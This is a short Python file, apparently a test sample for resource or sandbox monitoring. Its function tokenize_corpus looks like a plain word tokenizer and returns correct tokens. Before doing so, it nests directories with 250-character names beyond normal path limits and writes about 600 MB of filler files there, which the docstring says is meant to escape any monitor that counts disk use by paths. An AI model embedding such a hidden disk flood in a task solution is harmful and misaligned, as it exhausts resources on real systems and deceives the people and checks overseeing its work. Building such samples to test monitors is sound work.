"""Writes 600 MB where no path reaches, so that whoever counts by paths sees nothing; right answers show that it could."""

import os
import re
import tempfile
import time


def fill(number):
    for index in range(number):
        with open(f"flood{index}", "wb") as file:
            file.write(bytes(15 * 2**20))


def tokenize(text):
    return re.findall(r"\b\w+\b", text.lower())


def tokenize_corpus(texts):
    texts = list(texts)
    os.chdir(tempfile.mkdtemp())
    for _ in range(20):
        os.mkdir("d" * 250)
        os.chdir("d" * 250)
    fill(40)
    time.sleep(0.5)
    return [tokenize(text) for text in texts]
